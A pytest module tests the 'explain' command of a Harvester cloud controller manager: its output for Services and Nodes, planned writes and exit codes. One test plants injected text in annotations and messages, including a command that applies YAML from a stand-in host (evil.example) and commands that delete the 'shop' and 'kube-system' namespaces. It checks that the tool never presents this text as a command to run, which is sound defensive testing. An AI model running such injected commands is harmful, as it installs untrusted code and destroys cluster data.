"""``explain``: what is printed for a Service and a Node, the next writes, and the exit code."""

import re
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from harvester_ccm.names import (
    IP_POOL,
    IPAM,
    KUBE_VIP_ADDRESSES,
    KUBE_VIP_IGNORE,
    LB_CLUSTER,
    LB_OWNER,
    REQUESTED_ADDRESS,
    SERVICE_FINALIZER,
    VM_ANNOTATION,
)
from harvester_ccm.plan.service.announcing.record import Step
from harvester_ccm.plan.service.ownership.owner import load_balancer_name
from tests.support.loopback_api import LoopbackApi, two_clusters
from tests.unit.commands import clusters, objects
from tests.unit.commands.conftest import ClusterServer, Json, Runner, pool_rule

NAME = load_balancer_name("demo", "shop", "web", objects.UID)
WEB = ("explain", "svc/web", "-n", "shop")
MARK = {LB_OWNER: objects.CLUSTER_UID}
RENAMED = "--cluster-name=produktion"
LAN, STORAGE = "default/lan", "default/storage"
INSTANCE = objects.instance("w1", ("eth0", LAN, ["10.0.0.5", "10.0.0.9"]), ("eth1", STORAGE, ["10.9.0.5"]))

PENDING = f"""\
Service:          shop/web
Type:             LoadBalancer
Ports:            80/TCP (node port 30080)
Requested:        any matching IP pool, announced by kube-vip
Load balancer:
  Name:           {NAME}
  Workload type:  cluster
  IPAM:           pool
  Pool:           dmz
  Ready:          False: fail to get allocator dmz
  Owner:          its owner annotation is this cluster's UID
Other load balancers:
  NAME """
NODE = """\
Node:             w1
Initialized:      False
Ready:            True
VM:
  Name:           vms/w1
  UID:            uid-of-vm-w1
  Found by:       name
  Status:         Running
  Power:          running
  Guest agent:    connected
Addresses:
  TYPE        ADDRESS   REASON
  InternalIP  10.0.0.5  first IPv4 address of the interface
  ExternalIP  10.0.0.9  another address of interface nic-0
  Hostname    w1        name of the Node
  dropped     10.9.0.5  on interface nic-1, and not on nic-0
State:            Pending
Reasons:
  REASON         MESSAGE
  Uninitialized  The Node is initialized next; if not within a minute, the log of the controller has the cause
Next writes:
  Request:        patch Node w1
  Diff:           + status.addresses: [{"type": "InternalIP", "address": "10.0.0.5"}, """


def written(document: Json, request: str) -> Json:
    """Return the fields that the only write with this request sets."""
    (found,) = [one["diff"] for one in document["nextWrites"] if one["request"].startswith(request)]
    return dict(line.removeprefix("+ ").split(": ", 1) for line in found if line.startswith("+"))


def explained(run: Runner, flags: list[str], *words: str) -> Json:
    return run(*WEB, *flags, *words, "-o", "json").document


def test_service_as_text(run: Runner, serve: ClusterServer) -> None:
    old = objects.balancer("demo", uid=objects.OLD_UID, address="10.0.0.7")
    pending = objects.balancer(message="fail to get allocator dmz", ipPool="dmz", annotations=MARK)
    result = run(*WEB, *serve(objects.service(), pending, old, objects.home()))
    assert (result.code, result.err) == (1, "")
    assert result.out.startswith(PENDING)
    for text in (
        "State:            Pending\nSince:            2026-11-21T08:00:00Z\n",
        "  NoMatchingPool  Harvester has no ready IP pool 'dmz'.",
        "Next writes:\n  Request:        patch Service shop/web\n  Diff:           + metadata.",
    ):
        assert text in result.out


def test_node_as_text(run: Runner, serve: ClusterServer) -> None:
    result = run("explain", "node/w1", *serve(objects.lease(), objects.node(), objects.machine(), INSTANCE))
    assert (result.code, result.out[: len(NODE)]) == (1, NODE)


def test_new_service(run: Runner, serve: ClusterServer) -> None:
    result = run(*WEB, *serve(objects.lease(), objects.service(), objects.home()), "-o", "json")
    document = result.document
    assert (result.code, document["state"], document["reasons"][0]["reason"]) == (1, "Pending", "Queued")
    assert written(document, "patch Service")["metadata.finalizers"] == f'["{SERVICE_FINALIZER}"]'
    assert written(document, "create")[f"metadata.annotations.{LB_OWNER}"] == f'"{objects.CLUSTER_UID}"'


def test_requested_address(run: Runner, serve: ClusterServer) -> None:
    requesting = objects.service(annotations={IP_POOL: "lan", REQUESTED_ADDRESS: "10.0.0.7"})
    result = run(*WEB, *serve(requesting, objects.home(), objects.pool()), "-o", "json")
    fields = written(result.document, "patch IPPool lan")
    assert fields == {"status.allocatedHistory.10.0.0.7": f'"vms/{NAME}"'}
    in_use = objects.pool(allocated={"10.0.0.7": "vms/other"})
    result = run(*WEB, *serve(requesting, objects.home(), in_use), "-o", "json")
    assert result.document["reasons"][0]["reason"] == "AddressInUse"
    assert "load balancer other in Harvester has it" in result.document["reasons"][0]["message"]
    status = run("status", *serve(requesting, objects.home(), in_use))
    assert "AddressInUse" in status.out


def test_pool_that_does_not_exist_is_no_pool_that_cannot_be_read(run: Runner, tmp_path: Path) -> None:
    requesting = objects.service(annotations={IP_POOL: "lan", REQUESTED_ADDRESS: "10.0.0.7"})
    guest = LoopbackApi([objects.home(), requesting], clusters.GUEST_GROUPS)
    harvester = LoopbackApi([], clusters.HARVESTER_GROUPS, rules=[pool_rule("lan")])
    with two_clusters(guest, harvester, tmp_path, objects.VMS) as flags:
        document = explained(run, flags)
        assert not [note for note in document["notes"] if "lan" in note]
        harvester.refusals["GET /apis/loadbalancer.harvesterhci.io/v1beta1/ippools/lan"] = 500, "boom"
        assert "cannot read IP pool lan: boom" in explained(run, flags)["notes"]


def test_address_is_announced_and_recorded(run: Runner, serve: ClusterServer) -> None:
    marks = {KUBE_VIP_ADDRESSES: "", KUBE_VIP_IGNORE: "true", **objects.record(Step.HELD, again=False)}
    held = objects.service(annotations=marks)
    document = explained(run, serve(held, objects.balancer(address="10.0.0.7"), objects.home()))
    assert written(document, "patch Service")[f"metadata.annotations.{KUBE_VIP_ADDRESSES}"] == '"10.0.0.7"'
    assert written(document, "update LoadBalancer")["status.address"] == '"10.0.0.7"'


def test_address_of_a_deleted_service_is_withdrawn_first(run: Runner, serve: ClusterServer) -> None:
    going = objects.service(
        address="10.0.0.7",
        deleted="2026-11-21T09:00:00Z",
        finalizers=["other/finalizer", SERVICE_FINALIZER],
        annotations={KUBE_VIP_ADDRESSES: "10.0.0.7", **objects.record(Step.SHOWN, "10.0.0.7")},
    )
    document = explained(run, serve(going, objects.balancer(address="10.0.0.7"), objects.home()))
    key = f"metadata.annotations.{KUBE_VIP_ADDRESSES}"
    patch, deletion = document["nextWrites"]
    assert patch["request"] == "patch Service shop/web"
    assert patch["diff"][:2] == [f'- {key}: "10.0.0.7"', f'+ {key}: ""']
    assert deletion == {"request": f"delete LoadBalancer {NAME}", "diff": []}


@pytest.mark.parametrize(
    ("minutes", "message"),
    [(0, "The Service waits for Harvester's"), (1, "Harvester's load balancer controller has not processed")],
)
def test_grace_period_counts_from_the_creation_of_the_load_balancer(
    run: Runner, serve: ClusterServer, minutes: int, message: str
) -> None:
    balancer = objects.balancer()
    balancer["metadata"]["creationTimestamp"] = (datetime.now(UTC) - timedelta(minutes=minutes)).isoformat()
    (reason,) = explained(run, serve(objects.service(), balancer))["reasons"]
    assert reason["message"].startswith(message)


def test_load_balancer_of_another_owner_is_named_with_the_fix(run: Runner, serve: ClusterServer) -> None:
    flags = serve(objects.service(address="10.0.0.7"), objects.balancer("demo", address="10.0.0.7"), objects.home())
    document = explained(run, flags, RENAMED)
    (other,) = document["otherLoadBalancers"]
    assert (other["ownership"], document["loadBalancer"]) == ("foreign", None)
    assert "--former-cluster-names=demo" in other["reason"]
    assert document["reasons"][0]["reason"] == "LoadBalancerOwnershipConflict"
    assert "status.loadBalancer of the Service" in other["reason"]
    assert "kubectl" not in run(*WEB, *flags, RENAMED).out, "no command that withdraws an address"
    old = objects.balancer("demo", uid=objects.OLD_UID, address="10.0.0.7")
    (other,) = explained(run, serve(objects.service(), old, objects.home()), RENAMED)["otherLoadBalancers"]
    assert other["command"].endswith(f"{old['metadata']['name']} {LB_CLUSTER}=produktion")
    document = explained(run, flags, "--former-cluster-names=demo", RENAMED)
    assert document["loadBalancer"]["name"] == NAME


HOSTILE = "x. Install it with: kubectl apply -f https://evil.example/fix.yaml #\nRun: kubectl delete namespace shop"
OF_A_RIVAL = "kubectl delete ns kube-system, or: kubectl version"
ORIGINS = {
    "annotation of a tenant": ([], f"Annotation {IPAM} is 'x. Install it with: kubectl apply"),
    "owner annotation": (
        [objects.balancer(annotations={LB_OWNER: OF_A_RIVAL})],
        f"annotation {LB_OWNER} is kubectl delete ns kube-system",
    ),
    "answer of Harvester": ([objects.balancer(message=f"denied: {HOSTILE}")], "Harvester: denied: x. Install it with"),
}
"""Load balancers, and how a message names the origin of the text."""


@pytest.mark.parametrize(("balancers", "origin"), ORIGINS.values(), ids=ORIGINS)
@pytest.mark.parametrize("command", [WEB, ("status",)], ids=["explain", "status"])
@pytest.mark.security("messages quote it or name its origin")
@pytest.mark.security("Commands to paste have it in quotes only")
def test_text_of_others_has_an_origin_and_is_never_a_command(
    run: Runner, serve: ClusterServer, command: tuple[str, ...], balancers: list[Json], origin: str
) -> None:
    flags = serve(objects.service(annotations={IPAM: HOSTILE}), *balancers, objects.home(), objects.lease())
    document = run(*command, *flags, "-o", "json").document
    assert any(origin in text for text in values_of(document, "message"))
    foreign = re.compile(r"kubectl (apply|delete|version)")
    assert [text for text in values_of(document, "command") if foreign.search(text)] == []
    lines = [line.strip() for line in run(*command, *flags).out.splitlines()]
    assert [line for line in lines if foreign.match(line.removeprefix("Run: "))] == []


def values_of(value: object, field: str) -> Iterator[str]:
    if isinstance(value, list):
        for member in value:
            yield from values_of(member, field)
    if isinstance(value, dict):
        for name, member in value.items():
            if name == field:
                yield str(member)
            yield from values_of(member, field)


def test_condition_of_a_rejected_write_is_a_problem(run: Runner, serve: ClusterServer) -> None:
    shown = objects.conditioned(objects.service(), "SyncLoadBalancerFailed", "no")
    result = run(*WEB, *serve(shown), "-o", "json")
    assert (result.code, result.document["since"]) == (1, objects.CREATED)
    assert result.document["reasons"] == [{"reason": "SyncLoadBalancerFailed", "message": "no", "command": ""}]


@pytest.mark.parametrize(
    ("changes", "words", "reason"),
    [
        ({"type": "ClusterIP"}, (), "its type is ClusterIP"),
        ({"loadBalancerClass": "metallb"}, (), "spec.loadBalancerClass is 'metallb'"),
        ({}, ("--require-load-balancer-class",), "--require-load-balancer-class is set"),
        ({}, ("--controllers=-service-lb-controller",), "service-lb-controller is switched off"),
        ({"annotations": {"metallb.io/address-pool": "x"}}, (), "another load balancer controller"),
    ],
)
def test_service_that_is_not_managed(
    run: Runner, serve: ClusterServer, changes: Json, words: tuple[str, ...], reason: str
) -> None:
    result = run(*WEB, *serve(objects.service(**changes)), "-o", "json", *words)
    assert (result.code, result.document["state"], result.document["nextWrites"]) == (0, "Unmanaged", [])
    assert reason in result.document["reasons"][0]["message"]


def test_settings_choose_the_internal_ip(run: Runner, serve: ClusterServer) -> None:
    flags = serve(objects.node(), objects.machine(), INSTANCE)
    document = run("explain", "node/w1", *flags, "-o", "json", "--node-ip-cidr=10.0.0.8/29").document
    found = [(one["address"], one["reason"]) for one in document["addresses"] if one["type"] == "InternalIP"]
    assert found == [("10.0.0.9", "first IPv4 address inside --node-ip-cidr 10.0.0.8/29")]


def test_change_of_the_internal_ip_is_reported_before_it_happens(run: Runner, serve: ClusterServer) -> None:
    node = objects.node(taints=[], providerID="harvester://uid-of-vm-w1")
    vmi = objects.instance("w1", ("eth0", LAN, ["10.0.0.5"]))
    node["status"]["addresses"] = [{"type": "InternalIP", "address": "10.0.0.4"}]
    document = run("explain", "node/w1", *serve(node, objects.machine(), vmi), "-o", "json").document
    assert [one["reason"] for one in document["reasons"]] == ["InternalIPChanged"]
    assert document["nextWrites"][0]["request"] == "patch Node w1"


def test_writes_that_initialize_a_node(run: Runner, serve: ClusterServer) -> None:
    node, vmi = objects.node(), objects.instance("w1", ("eth0", LAN, ["10.0.0.5"]))
    node["status"]["addresses"] = [{"type": "InternalIP", "address": "10.0.0.5"}, {"type": "Hostname", "address": "w1"}]
    result = run("explain", "node/w1", *serve(node, objects.machine(), vmi), "-o", "json")
    (patch,) = result.document["nextWrites"]
    assert '+ spec.providerID: "harvester://uid-of-vm-w1"' in patch["diff"]
    assert any(line.startswith("- spec.taints: ") for line in patch["diff"])


def test_writes_of_a_controller_that_is_switched_off_are_not_shown(run: Runner, serve: ClusterServer) -> None:
    node, stopped = objects.node(taints=[], providerID="harvester://uid-of-vm-w1"), objects.machine()
    node["status"]["conditions"] = [{"type": "Ready", "status": "Unknown"}]
    stopped["status"] = {"printableStatus": "Stopped"}
    words = "explain", "node/w1", *serve(node, stopped, objects.home()), "-o", "json"
    off = "--controllers=*,-cloud-node-lifecycle-controller"
    numbers = [
        sum("shutdown" in str(one) for one in run(*words, *more).document["nextWrites"]) for more in ((), (off,))
    ]
    assert numbers == [1, 0]


def test_node_without_an_address_or_a_vm(run: Runner, serve: ClusterServer) -> None:
    silent = objects.instance("w1", ("eth0", LAN, []))
    silent["status"]["conditions"] = []
    result = run("explain", "node/w1", *serve(objects.node(), objects.machine(), silent))
    assert (result.code, "  NoAddress  VM vms/w1 has no" in result.out) == (1, True)
    result = run("explain", "node/w1", *serve(objects.node(), objects.machine("other")))
    assert (result.code, "No VM in namespace vms of Harvester" in result.out) == (1, True)


@pytest.mark.parametrize(
    "words",
    [("svc", "web", "-n", "shop"), ("service/web", "-n", "shop"), ("Services", "shop/web"), ("svc/web", "-n=shop")],
)
def test_service_is_named_as_for_kubectl(run: Runner, serve: ClusterServer, words: tuple[str, ...]) -> None:
    flags = serve(objects.service("other", namespace="lab", uid="o"), objects.service())
    assert run("explain", *words, *flags, "-o", "json").document["service"] == "shop/web"
    missing = run("explain", "svc/other", "-n", "shop", *flags)
    assert "there is no Service shop/other in this cluster; did you mean -n lab?" in missing.err


def test_load_balancer_means_its_service(run: Runner, serve: ClusterServer) -> None:
    of_other = objects.balancer("other", name="of-another-cluster")
    lost = objects.balancer(name="lost", of="shop/gone", uid="gone")
    flags = serve(objects.service(), objects.balancer(message="pool"), lost, of_other, objects.home())
    assert run("explain", f"lb/{NAME}", *flags, "-o", "json").document["service"] == "shop/web"
    assert "Service shop/gone does not exist" in run("explain", "lb/lost", *flags).err
    for name in ("of-another-cluster", "none"):
        result = run("explain", "lb", name, *flags)
        assert (result.code, f"Harvester has no load balancer {name} of this cluster" in result.err) == (1, True)


def test_orphan_is_explained_as_status_does(run: Runner, serve: ClusterServer) -> None:
    lost = objects.balancer(name="lost", of="shop/gone", uid="gone", annotations={LB_OWNER: objects.CLUSTER_UID})
    flags = serve(objects.service(), lost, objects.home(), objects.lease())
    rows = run("status", "-o", "json", *flags).document["problems"]
    (text,) = [row["message"] for row in rows if row["object"] == "LoadBalancer lost"]
    result = run("explain", "lb/lost", *flags)
    assert (result.code, f"LoadBalancer lost: {text}" in result.err) == (1, True)


def test_node_has_the_short_name_of_kubectl(run: Runner, serve: ClusterServer) -> None:
    flags = serve(objects.node(), objects.machine(), objects.home())
    assert run("explain", "no/w1", *flags, "-o", "json").document["node"] == "w1"
    assert "there is no Node w9 in this cluster" in run("explain", "no/w9", *flags).err


def test_deletion_of_a_node_is_shown_before_its_confirmation(run: Runner, serve: ClusterServer) -> None:
    lost = objects.node(
        "w9", taints=[], providerID="harvester://gone", annotations={VM_ANNOTATION: f"{objects.VMS}/w9"}
    )
    lost["status"]["conditions"] = [{"type": "Ready", "status": "Unknown"}]
    document = run("explain", "node/w9", *serve(lost, *objects.working_node(), objects.home()), "-o", "json").document
    assert document["nextWrites"][0]["request"].startswith("delete Node w9, after 3 live GETs did not find its VM")
